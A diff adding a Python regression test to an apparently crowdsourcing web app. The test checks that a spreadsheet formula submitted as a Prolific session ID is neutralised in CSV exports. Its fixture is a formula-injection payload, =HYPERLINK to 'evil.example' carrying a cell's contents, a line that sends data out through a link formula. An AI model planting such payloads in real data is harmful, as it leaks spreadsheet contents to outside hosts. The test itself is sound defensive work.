@@ -344,6 +344,33 @@ def test_batches_page_counts_needed_answers_and_curators_manage_the_crowd(app, c
     assert client.get("/crowd/batches/999/answers.csv").status_code == 404
 
 
+FORMULA_SESSION = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def test_answers_csv_neutralises_formulas_from_the_crowd(app, client, cards, login, runner, tmp_path):
+    # Issue 32: a Prolific SESSION_ID of =HYPERLINK(...) landed verbatim in the curator's answers.csv.
+    from urllib.parse import urlencode
+
+    import pyarrow.parquet as pq
+
+    batch = new_batch(app, cards(1))
+    query = urlencode({"PROLIFIC_PID": "-pid", "STUDY_ID": "s1", "SESSION_ID": FORMULA_SESSION})
+    t = worker_token(client.get(f"/crowd/prolific?{query}").get_data(as_text=True))
+    task = api(client, "next", t, {"kind": "judge"}).get_json()["tasks"][0]
+    assert api(client, "submit", t, {"token": task["token"], "answer": JUDGE_OK, "key": "formula-key-1"}).status_code == 201
+    login("curator")
+    web = list(csv.DictReader(io.StringIO(client.get(f"/crowd/batches/{batch}/answers.csv").get_data(as_text=True))))
+    result = runner.invoke(args=["crowd", "export", str(batch), "--out", str(tmp_path)])
+    assert result.exit_code == 0, result.output
+    with (tmp_path / "answers.csv").open(newline="") as handle:
+        cli = list(csv.DictReader(handle))
+    for rows in (web, cli):
+        assert [r["session"] for r in rows] == ["'" + FORMULA_SESSION]
+        assert rows[0]["worker"] == "prolific:-pid"  # starts with the provider: no formula
+    # Parquet is read by programs, not spreadsheets: it keeps the value as given.
+    assert pq.read_table(tmp_path / "answers.parquet").column("session").to_pylist() == [FORMULA_SESSION]
+
+
 def test_curators_check_prolific_submissions(app, client, cards, login, csrf_token):
     app.config["KEYSTONE_PROLIFIC_COMPLETION_CODE"] = "CODE1"
     new_batch(app, cards(1))
